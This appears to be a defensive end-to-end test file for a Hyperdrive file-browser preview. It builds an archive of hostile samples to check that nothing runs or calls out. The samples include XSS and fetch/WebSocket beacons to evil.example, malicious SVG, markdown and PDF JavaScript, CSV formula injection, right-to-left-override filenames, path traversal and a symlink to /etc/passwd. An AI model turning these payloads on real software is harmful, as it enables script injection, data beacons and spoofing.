/**
 * An archive that means harm, written by a plain Hyperdrive with nothing of ours: everything in it is looked at on the
 * page, and nothing runs, nothing is asked for elsewhere, nothing navigates, and no name pretends to be another.
 */
import { join } from 'node:path'
import Corestore from 'corestore'
import Hyperdrive from 'hyperdrive'
import Hyperswarm from 'hyperswarm'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, onTestFinished, test } from 'vitest'
import { type Opened, paste, type Stage, startStage } from '../helpers/browser.ts'
import { nodeBeside } from '../helpers/testnet.ts'
import { startTrap, type Trap } from '../helpers/trap.ts'
import { png } from '../renderer-publish/samples.ts'

let trap: Trap
let stage: Stage
beforeAll(async () => {
  trap = await startTrap()
  stage = await startStage([trap.rule])
})
beforeEach(() => {
  trap.caught()
})
afterAll(async () => {
  await stage?.close()
  await trap.close()
})

const out = 'http://evil.example'
const script = `window.__owned = 1; window.top && (window.top.__owned = 1); fetch('${out}/fetch'); new WebSocket('ws://evil.example/ws'); location = '${out}/go'`
const html = `<!doctype html><meta http-equiv=refresh content="0;url=${out}/refresh"><base href="${out}/"><link rel=stylesheet href="${out}/style.css"><script>${script}</script><img src="${out}/img" onerror="${script}"><iframe src="${out}/frame"></iframe><form action="${out}/form"><input autofocus onfocus="this.form.submit()"></form>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${script.replaceAll('&', '&amp;')}"><script>${script.replaceAll('&', '&amp;')}</script><image href="${out}/svg.png" width="9" height="9"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${out}/svg-frame"/></foreignObject><use xlink:href="${out}/sprite.svg#a"/><style>@import url(${out}/svg.css); * { background: url(${out}/bg) }</style><rect width="40" height="40" fill="teal"/></svg>`
const markdown = `# Hostile heading\n\n<script>${script}</script>\n<img src="${out}/md-html" onerror="${script}">\n\n![pixel](${out}/pixel.png)\n![data](data:image/svg+xml,<svg/onload=alert(1)>)\n\n[click me](javascript:${encodeURIComponent(script)}) [data](data:text/html,<script>alert(1)</script>) [far](${out}/link) <${out}/auto> [vb](vbscript:x)\n\n<iframe src="${out}/md-frame"></iframe>\n\n\`\`\`html\n<script>window.__owned = 1</script>\n\`\`\`\n\n[ref]: ${out}/ref\n![ref]\n\nFootnote[^1]\n\n[^1]: <img src=x onerror=${JSON.stringify(script)}>\n`
const pdf = `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("owned"\\); this.submitForm\\("${out}/pdf"\\); app.launchURL\\("${out}/launch"\\)) >> /AA << /WC << /S /URI /URI (${out}/uri) >> >> >> endobj\n2 0 obj << /Type /Pages /Count 1 /Kids [3 0 R] >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (javascript:window.__owned=1) >> >>] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); window.__owned = 1; //)] >> >> >> >> endobj\n4 0 obj << /Length 40 >> stream\nBT /F 20 Tf 20 100 Td (Hostile page) Tj ET\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF`

/** By name: what is in it, and what shows that the preview has done all that it does. */
const content: readonly (readonly [name: string, bytes: string | Buffer, ready: (page: Page) => Promise<unknown>])[] = [
  ['page.html', html, page => page.getByText('http-equiv=refresh', { exact: false }).first().waitFor()],
  ['page.xhtml', html, page => page.getByText('http-equiv=refresh', { exact: false }).first().waitFor()],
  ['picture.svg', svg, page => page.getByRole('img', { name: 'picture.svg' }).last().waitFor()],
  ['readme.md', markdown, page => page.getByRole('heading', { name: 'Hostile heading' }).first().waitFor()],
  ['script.js', script, page => page.getByText('window.__owned', { exact: false }).first().waitFor()],
  ['worker.mjs', script, page => page.getByText('window.__owned', { exact: false }).first().waitFor()],
  [
    'style.css',
    `@import url(${out}/css); body { background: url(${out}/css-bg) !important; display: none }`,
    page => page.getByText('@import', { exact: false }).first().waitFor(),
  ],
  [
    'feed.xml',
    `<?xml version="1.0"?><?xml-stylesheet href="${out}/xsl" type="text/xsl"?><!DOCTYPE a SYSTEM "${out}/dtd"><a xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${script}</x:script></a>`,
    page => page.getByText('xml-stylesheet', { exact: false }).first().waitFor(),
  ],
  [
    'table.csv',
    `name,value\n=HYPERLINK("${out}/csv"),<img src=${out}/csv-img onerror=alert(1)>\n`,
    page => page.getByRole('columnheader', { name: 'value' }).waitFor(),
  ],
  [
    'book.pdf',
    pdf,
    page =>
      page
        .getByText('Hostile page')
        .or(page.getByText('This PDF cannot be shown', { exact: false }))
        .first()
        .waitFor({ state: 'attached' }),
  ],
  [
    'list.m3u8',
    `#EXTM3U\n#EXTINF:1,\n${out}/segment.ts\n`,
    page => page.getByText('#EXTM3U', { exact: false }).first().waitFor(),
  ],
  [
    'text.txt',
    `</pre></div><script>${script}</script>`,
    page => page.getByText('</pre></div>', { exact: false }).first().waitFor(),
  ],
  ['html.png', html, page => page.getByText('This picture cannot be shown here').first().waitFor()],
  ['html.mp4', html, page => page.getByText('This film cannot be shown here').first().waitFor()],
  ['real.png', png(30, 20), page => page.getByText('30 × 20').first().waitFor()],
]

/** The name as it is, and as it has to be read. */
const names: readonly (readonly [name: string, shown: string])[] = [
  ['invoice\u202Egpj.exe', 'invoice[U+202E]gpj.exe'],
  ['in\u200Bvisible\u00AD.txt', 'in[U+200B]visible[U+00AD].txt'],
  ['line\nbreak\u2028.txt', 'line[U+000A]break[U+2028].txt'],
  ['<script>window.__owned=1<', '<script>window.__owned=1<'],
  ['"><img src=x onerror=window.__owned=1>.txt', '"><img src=x onerror=window.__owned=1>.txt'],
  ['מסמך.txt', 'מסמך.txt'],
  ['\u3164', '[U+3164]'],
  ['%2e%2e%2fsecret', '%2e%2e%2fsecret'],
  ['x'.repeat(251) + '.txt', 'x'.repeat(251) + '.txt'],
  ['z'.repeat(2000) + '.txt', 'z'.repeat(2000) + '.txt'],
]

async function hostileAuthor(): Promise<string> {
  const store = new Corestore(join(await stage.folder('plain'), 'store'))
  const swarm = new Hyperswarm({ dht: nodeBeside(stage.bootstrap) })
  swarm.on('connection', connection => store.replicate(connection))
  onTestFinished(async () => {
    await swarm.destroy({ force: true })
    await store.close()
  })
  const drive = new Hyperdrive(store)
  await drive.ready()
  for (const [name, bytes] of content) await drive.put(`/content/${name}`, Buffer.from(bytes))
  for (const [name] of names) await drive.put(`/names/${name}`, Buffer.from('a'))
  await drive.put(`/deep${'/a long name of a folder'.repeat(60)}/end.txt`, Buffer.from('deep'))
  await drive.put(
    '/.cairn/about.json',
    Buffer.from(JSON.stringify({ title: '<img src=x onerror=window.__owned=1>\u202E', script })),
  )
  await drive.symlink('/content/outside', '../../../../etc/passwd')
  await swarm.join(drive.discoveryKey, { client: true, server: true }).flushed()
  return `hyper://${drive.key.toString('hex')}`
}

/** Asked for from anywhere but the page and the content of archives. */
async function elsewhere({ page, requests }: Opened): Promise<readonly string[]> {
  const { host, port } = new URL(page.url())
  const contentHost = new RegExp(`^[0-9a-f]{32}\\.localhost:${port}$`)
  return requests.filter(request => {
    const url = new URL(request)
    if (url.protocol === 'data:' || url.protocol === 'blob:') return false
    return url.host !== host && !contentHost.test(url.host)
  })
}

const harmless = (page: Page) =>
  page.evaluate(() => ({
    owned: '__owned' in window,
    frames: window.frames.length,
    forms: document.querySelectorAll('form[action], base, iframe, object, embed').length,
  }))

test('whatever is in it is shown and does nothing', async () => {
  const link = await hostileAuthor()
  const bob = await stage.person()
  const opened = await bob.open()
  const { page, context, complaints } = opened
  const navigations: string[] = []
  page.on('framenavigated', frame => navigations.push(frame.url()))
  const pages: string[] = []
  context.on('page', other => pages.push(other.url()))
  const downloads: string[] = []
  page.on('download', download => downloads.push(download.url()))

  await paste(page, link)
  await page.getByRole('row', { name: /^content/ }).dblclick()
  const grid = page.getByRole('grid', { name: 'Files in content' })
  for (const [name, , ready] of content) {
    await grid.getByRole('row', { name: new RegExp(`^${name.replace('.', '\\.')}`) }).click()
    await ready(page)
    await grid.press(' ')
    const dialog = page.getByRole('dialog', { name })
    await dialog.waitFor()
    await ready(page)
    expect(await harmless(page)).toEqual({ owned: false, frames: 0, forms: 0 })
    await page.keyboard.press('Escape')
    await dialog.waitFor({ state: 'detached' })
  }
  // A link in a text says where it leads before it goes there, and those that are none stay words.
  await grid.getByRole('row', { name: /^readme\.md/ }).click()
  await page.getByRole('heading', { name: 'Hostile heading' }).waitFor()
  const shown = page.getByRole('complementary', { name: 'Details' })
  expect(await shown.getByRole('link').count()).toBe(0)
  expect(await shown.locator('a, img, script, iframe, input').count()).toBe(0)
  for (const word of ['click me', 'data', 'far', 'vb'])
    expect(await shown.getByRole('button', { name: word, exact: true }).count()).toBe(0)

  await grid.getByRole('row', { name: /^outside/ }).click()
  await shown.getByText('../../../../etc/passwd').first().waitFor()
  expect(await elsewhere(opened)).toEqual([])
  expect(trap.caught()).toEqual([])
  expect({ navigations, pages, downloads }).toEqual({
    navigations: navigations.filter(url => url.startsWith(new URL(page.url()).origin)),
    pages: [],
    downloads: [],
  })
  // A browser says of a picture or a film that is none that it is none; the policy itself had nothing to refuse.
  expect(complaints).toEqual([])
})

test('its bytes are no page of their own: a tab is refused, and what is read by script is text and cannot run', async () => {
  const link = await hostileAuthor()
  const bob = await stage.person()
  const opened = await bob.open()
  const { page, context, requests } = opened
  await paste(page, link)
  await page.getByRole('row', { name: /^content/ }).dblclick()
  await page.getByRole('row', { name: /^picture\.svg/ }).click()
  await page.getByRole('img', { name: 'picture.svg' }).waitFor()
  const address = requests.findLast(request => request.includes('picture.svg'))!
  for (const name of ['picture.svg', 'page.html', 'page.xhtml', 'feed.xml', 'script.js']) {
    const own = address.replace(/picture\.svg.*/, name)
    const alone = await context.newPage()
    expect((await alone.goto(own))?.status()).toBe(403)
    expect(await alone.evaluate(() => '__owned' in window)).toBe(false)
    await alone.close()
    const [policy, type] = await page.evaluate(async url => {
      const { headers } = await fetch(url)
      return [headers.get('content-security-policy'), headers.get('content-type')]
    }, own)
    // Only what CORS lets through is seen by our page; the rest is looked at in the tests of the web shell.
    expect(policy === null || policy.includes("sandbox; default-src 'none'")).toBe(true)
    if (name !== 'picture.svg') expect(type).toMatch(/^text\/plain/)
  }
  expect(trap.caught()).toEqual([])
})

test('its names hide nothing and turn nothing around', async () => {
  const link = await hostileAuthor()
  const bob = await stage.person()
  const opened = await bob.open()
  const { page, complaints } = opened
  await paste(page, link)
  await page.getByRole('row', { name: /^names/ }).dblclick()
  const grid = page.getByRole('grid', { name: 'Files in names' })
  await grid.getByRole('row').nth(1).waitFor()
  const read = await grid.locator('bdi').evaluateAll(elements =>
    elements.map(element => ({
      title: element.getAttribute('title'),
      isolated: getComputedStyle(element).unicodeBidi,
    })),
  )
  expect(read.map(({ title }) => title).sort()).toEqual(names.map(([, shown]) => shown).sort())
  expect(new Set(read.map(({ isolated }) => isolated))).toEqual(new Set(['isolate']))
  // Nothing that cannot be seen is left in what is on the page, nor in what it is called.
  const whole = await page.evaluate(
    () =>
      `${document.body.innerText}${document.title}${[...document.querySelectorAll('[title], [aria-label]')].map(element => element.getAttribute('title') ?? element.getAttribute('aria-label')).join('')}`,
  )
  expect(/[\u200B\u200E\u200F\u202A-\u202E\u2066-\u2069\u00AD\u2028\u3164]/.test(whole)).toBe(false)
  for (const [, shown] of names) {
    // Every one of them can be opened, whatever it is called.
    const row = grid.getByRole('row').filter({ has: page.locator(`bdi[title=${JSON.stringify(shown)}]`) })
    await row.click()
    await page.getByRole('complementary', { name: 'Details' }).getByText('1 byte', { exact: true }).waitFor()
    await grid.press('Enter')
    await page.getByRole('dialog').waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
  }
  // A path that is longer than any window.
  await page.evaluate(
    path => {
      history.pushState(null, '', location.hash.replace(/\/files\/.*/, `/files${path}`))
      dispatchEvent(new PopStateEvent('popstate'))
    },
    `/deep${'/a%20long%20name%20of%20a%20folder'.repeat(60)}`,
  )
  await page.getByRole('row', { name: /^end\.txt/ }).waitFor()
  expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBe(0)
  expect(await harmless(page)).toEqual({ owned: false, frames: 0, forms: 0 })
  expect(await elsewhere(opened)).toEqual([])
  expect(trap.caught()).toEqual([])
  expect(complaints).toEqual([])
})
